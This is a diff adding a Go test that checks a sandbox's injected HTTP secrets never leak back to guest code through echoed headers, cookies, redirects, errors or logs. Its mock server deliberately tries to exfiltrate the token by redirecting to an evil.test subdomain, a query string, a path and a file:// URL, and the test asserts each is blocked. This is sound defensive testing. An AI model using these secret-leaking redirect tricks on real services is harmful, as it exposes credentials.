@@ -436,3 +436,225 @@ func manyHeaders(n int) map[string]string {
 	}
 	return h
 }
+
+// TestHTTPSecretInjection: a grant's ${secret:NAME} is read in the
+// calling organization and sent only to the hops the grant covers; the
+// guest never sees it: not in a reflected body or header (names
+// included, whatever their case), not through a redirect built from it,
+// not in an error; the audit trail and the host's log never hold it. A
+// guest header of the injected name, or one that would let it take the
+// reply in pieces or compressed, is refused. What scrubbing cannot see (a
+// server that transforms the value, base64 here) is shown too, as the
+// promise's edge.
+func TestHTTPSecretInjection(t *testing.T) {
+	ctx := context.Background()
+	const acmeTok, globexTok = "s3cr3t-Token-ACME-0001", "globex-Token-value-0002"
+	var bSaw atomic.Value
+	b := serveOn(t, "127.0.0.2:0", func(w http.ResponseWriter, r *http.Request) {
+		bSaw.Store(r.Header.Get("Authorization") + "|" + r.Header.Get("X-Static") + "|" + r.Header.Get("X-Mine"))
+		if to := r.URL.Query().Get("to"); to != "" {
+			http.Redirect(w, r, to, http.StatusFound)
+			return
+		}
+		io.WriteString(w, "b saw "+r.Header.Get("Authorization"))
+	})
+	var aSaw atomic.Value
+	a := serveOn(t, "127.0.0.1:0", func(w http.ResponseWriter, r *http.Request) {
+		auth := r.Header.Get("Authorization")
+		aSaw.Store(auth + "|" + r.Header.Get("X-Static"))
+		tok := strings.TrimPrefix(auth, "Bearer ")
+		switch path := r.URL.Path; {
+		case strings.HasSuffix(path, "/echo"):
+			w.Header().Set("X-Echo", auth)
+			w.Header().Set("X-"+tok, "a header named after it")
+			http.SetCookie(w, &http.Cookie{Name: "session", Value: tok})
+			var hs []string
+			for k, v := range r.Header {
+				hs = append(hs, k+": "+strings.Join(v, ","))
+			}
+			fmt.Fprintf(w, "you sent %s; lower %s; upper %s", strings.Join(hs, "; "), strings.ToLower(tok), strings.ToUpper(tok))
+		case strings.HasSuffix(path, "/redirect"):
+			http.Redirect(w, r, r.URL.Query().Get("to"), http.StatusFound)
+		case strings.HasSuffix(path, "/leak-query"):
+			http.Redirect(w, r, b.url+"/x?t="+url.QueryEscape(tok), http.StatusFound)
+		case strings.HasSuffix(path, "/leak-host"):
+			http.Redirect(w, r, fmt.Sprintf("http://%s.evil.test:%d/", strings.ToLower(tok), b.port), http.StatusFound)
+		case strings.HasSuffix(path, "/leak-scheme"):
+			http.Redirect(w, r, "file://"+tok+"/etc", http.StatusFound)
+		case strings.HasSuffix(path, "/leak-path"):
+			http.Redirect(w, r, "/other/"+tok, http.StatusFound)
+		case strings.HasSuffix(path, "/base64"):
+			io.WriteString(w, base64.StdEncoding.EncodeToString([]byte(tok)))
+		default:
+			io.WriteString(w, "a saw "+auth)
+		}
+	})
+	A, B := a.url, b.url
+	profile := fmt.Sprintf(`name: p
+on_ungranted: deny_at_call
+default:
+  capabilities:
+    http:
+      - %s/
+      - url: %s/api/
+        headers: {Authorization: "Bearer ${secret:tok}", X-Static: plain-value}
+      - %s
+`, A, A, B)
+	var logs bytes.Buffer
+	dns := egresstest.NewDNS(t, func(string, int) []netip.Addr { return []netip.Addr{netip.MustParseAddr("127.0.0.2")} })
+	h, vault := httpHost(t, profile, dns.Resolver(), &logs)
+	root := secrets.Actor{Via: "cli", User: "root"}
+	if _, err := vault.Set(ctx, root, "acme", "tok", []byte(acmeTok)); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := vault.Set(ctx, root, "globex", "tok", []byte(globexTok)); err != nil {
+		t.Fatal(err)
+	}
+	m := fetcher(t, h, fmt.Sprintf(`["%s/", "%s", "http://*:%d"]`, A, B, b.port))
+	globex := policy.Principal{User: "gus", Org: "globex"}
+	initech := policy.Principal{User: "ivy", Org: "initech"}
+
+	clean := func(what string, s string) {
+		t.Helper()
+		for _, tok := range []string{acmeTok, globexTok} {
+			if strings.Contains(strings.ToLower(s), strings.ToLower(tok)) {
+				t.Errorf("%s holds a secret: %s", what, s)
+			}
+		}
+	}
+	show := func(res *abi.HTTPFetchResponse) string {
+		b, _ := json.Marshal(res.Headers)
+		return string(b) + " " + string(res.Body) + " " + res.URL
+	}
+
+	// The caller's organization's value reaches the server, and nothing of
+	// it comes back.
+	for _, who := range []policy.Principal{ann, globex} {
+		tok := map[string]string{"acme": acmeTok, "globex": globexTok}[who.Org]
+		res, err := fetch(t, m, who, "inject-"+who.Org, abi.HTTPFetchRequest{URL: A + "/api/echo"})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if got := aSaw.Load(); got != "Bearer "+tok+"|plain-value" {
+			t.Fatalf("%s: the server saw %q", who.Org, got)
+		}
+		clean("the response", show(res))
+		if res.Headers["x-echo"] != "Bearer [secret]" || !strings.Contains(res.Headers["set-cookie"], "session=[secret]") ||
+			res.Headers["x-[secret]"] != "a header named after it" || !strings.Contains(string(res.Body), "Authorization: Bearer [secret]") ||
+			!strings.Contains(string(res.Body), "lower [secret]; upper [secret]") || !strings.Contains(string(res.Body), "X-Static: plain-value") {
+			t.Errorf("%s: not scrubbed as expected: %s", who.Org, show(res))
+		}
+		evs := httpEvents(t, h, "inject-"+who.Org)
+		if len(evs) != 1 || evs[0].Attrs["injected"] != "Authorization,X-Static" {
+			t.Errorf("audit: %+v", evs)
+		}
+	}
+	// Outside the prefix nothing is injected.
+	if res, err := fetch(t, m, ann, "no-inject", abi.HTTPFetchRequest{URL: A + "/other/echo"}); err != nil || aSaw.Load() != "|" || !strings.Contains(string(res.Body), "you sent") {
+		t.Errorf("outside the prefix: %v, the server saw %q", err, aSaw.Load())
+	}
+	// A redirect to another granted host carries nothing injected; the
+	// guest's own header goes on.
+	res, err := fetch(t, m, ann, "to-b", abi.HTTPFetchRequest{URL: A + "/api/redirect?to=" + url.QueryEscape(B+"/echo"), Headers: map[string]string{"X-Mine": "guest"}})
+	if err != nil || string(res.Body) != "b saw " || bSaw.Load() != "||guest" {
+		t.Fatalf("a redirect to b: %v %q; b saw %q", err, res.Body, bSaw.Load())
+	}
+	if evs := httpEvents(t, h, "to-b"); len(evs) != 2 || evs[0].Attrs["injected"] != "Authorization,X-Static" || evs[1].Attrs["injected"] != "" {
+		t.Errorf("audit of the hops: %+v", evs)
+	}
+	// A redirect into the prefix gets the header on that hop only.
+	res, err = fetch(t, m, ann, "from-b", abi.HTTPFetchRequest{URL: B + "/?to=" + url.QueryEscape(A+"/api/echo")})
+	if err != nil || aSaw.Load() != "Bearer "+acmeTok+"|plain-value" || bSaw.Load() != "||" {
+		t.Fatalf("a redirect into the prefix: %v; a saw %q, b %q", err, aSaw.Load(), bSaw.Load())
+	}
+	clean("the response after a redirect", show(res))
+
+	for _, tt := range []struct {
+		name string
+		who  policy.Principal
+		req  abi.HTTPFetchRequest
+		code abi.Code
+		msg  string
+		rule string
+	}{
+		{"the guest sets the injected header", ann, abi.HTTPFetchRequest{URL: A + "/api/echo", Headers: map[string]string{"authorization": "Bearer mine"}}, abi.CodeDenied,
+			"header Authorization is injected by the grant " + A + "/api/; the module may not set it", "egress: header"},
+		{"Range", ann, abi.HTTPFetchRequest{URL: A + "/api/echo", Headers: map[string]string{"Range": "bytes=10-12"}}, abi.CodeDenied, "header Range may not be set on a request the grant", "egress: header"},
+		{"Accept-Encoding", ann, abi.HTTPFetchRequest{URL: A + "/api/echo", Headers: map[string]string{"Accept-Encoding": "br"}}, abi.CodeDenied, "whole and decoded", "egress: header"},
+		{"a secret the organization lacks", initech, abi.HTTPFetchRequest{URL: A + "/api/echo"}, abi.CodeDenied,
+			"organization initech has no secret tok; the operator sets it with `moat secrets set --org initech tok`", "secret"},
+		{"a redirect carrying it in the query", ann, abi.HTTPFetchRequest{URL: A + "/api/leak-query"}, abi.CodeDenied, "a redirect to a URL that holds the value of a secret", "secret"},
+		{"a redirect carrying it in the host", ann, abi.HTTPFetchRequest{URL: A + "/api/leak-host"}, abi.CodeDenied, "a redirect to a URL that holds the value of a secret", "secret"},
+		{"a redirect carrying it in the path", ann, abi.HTTPFetchRequest{URL: A + "/api/leak-path"}, abi.CodeDenied, "a redirect to a URL that holds the value of a secret", "secret"},
+		{"an error quoting it", ann, abi.HTTPFetchRequest{URL: A + "/api/leak-scheme"}, abi.CodeDenied, `redirect to file://[secret]: scheme "file"`, "egress: destination"},
+	} {
+		a0 := a.hits.Load()
+		corr := "inj-" + strings.ReplaceAll(tt.name, " ", "-")
+		_, err := fetch(t, m, tt.who, corr, tt.req)
+		if host.CodeOf(err) != tt.code || !strings.Contains(err.Error(), tt.msg) {
+			t.Errorf("%s: %v\nwant %s with %q", tt.name, err, tt.code, tt.msg)
+		}
+		if err != nil {
+			clean(tt.name+": the error", err.Error())
+		}
+		var denies int
+		for _, e := range httpEvents(t, h, corr) {
+			if e.Decision == audit.Deny {
+				denies++
+				if e.Rule != tt.rule {
+					t.Errorf("%s: deny rule %q, want %q", tt.name, e.Rule, tt.rule)
+				}
+			}
+		}
+		if denies != 1 {
+			t.Errorf("%s: %d deny events, want 1", tt.name, denies)
+		}
+		if strings.HasPrefix(tt.name, "the guest") || tt.name == "Range" || tt.name == "Accept-Encoding" || strings.HasPrefix(tt.name, "a secret") {
+			if a.hits.Load() != a0 {
+				t.Errorf("%s: the server got the refused request", tt.name)
+			}
+		}
+	}
+	// Range and Accept-Encoding are the guest's outside the prefix.
+	if _, err := fetch(t, m, ann, "range-ok", abi.HTTPFetchRequest{URL: A + "/other/x", Headers: map[string]string{"Range": "bytes=0-1"}}); err != nil {
+		t.Errorf("Range outside the prefix: %v", err)
+	}
+	// The edge of the promise: a server that transforms the value (here
+	// base64) is not scrubbed. SECURITY.md says so.
+	res, err = fetch(t, m, ann, "base64", abi.HTTPFetchRequest{URL: A + "/api/base64"})
+	if err != nil || string(res.Body) != base64.StdEncoding.EncodeToString([]byte(acmeTok)) {
+		t.Errorf("base64 of the secret: %q %v", res.Body, err)
+	}
+
+	// Nothing in the audit trail or the host's log holds a value.
+	all, err := h.Audit().Query(ctx, audit.Filter{Limit: 10000})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, e := range all {
+		b, _ := json.Marshal(e)
+		clean("an audit event", string(b))
+	}
+	clean("the host's log", logs.String())
+
+	// A host with no secrets, and a vault with no key: refused, saying how
+	// to configure one.
+	p, _ := policy.ParseProfile("p.yaml", []byte(profile))
+	for name, src := range map[string]host.Config{
+		"no secrets":     {Profile: p},
+		"a vault no key": {Profile: p, Secrets: secrets.NewVault(h.Store(), nil, nil)},
+	} {
+		src.DataDir = t.TempDir()
+		src.Logger = slog.New(slog.NewTextHandler(io.Discard, nil))
+		h2, err := host.New(ctx, src)
+		if err != nil {
+			t.Fatal(err)
+		}
+		t.Cleanup(func() { h2.Close(ctx) })
+		m2 := fetcher(t, h2, fmt.Sprintf(`["%s/", "%s"]`, A, B))
+		_, err = fetch(t, m2, ann, "nokey", abi.HTTPFetchRequest{URL: A + "/api/echo"})
+		if host.CodeOf(err) != abi.CodeDenied || !strings.Contains(err.Error(), "MOAT_SECRETS_KEY") {
+			t.Errorf("%s: %v", name, err)
+		}
+	}
+}
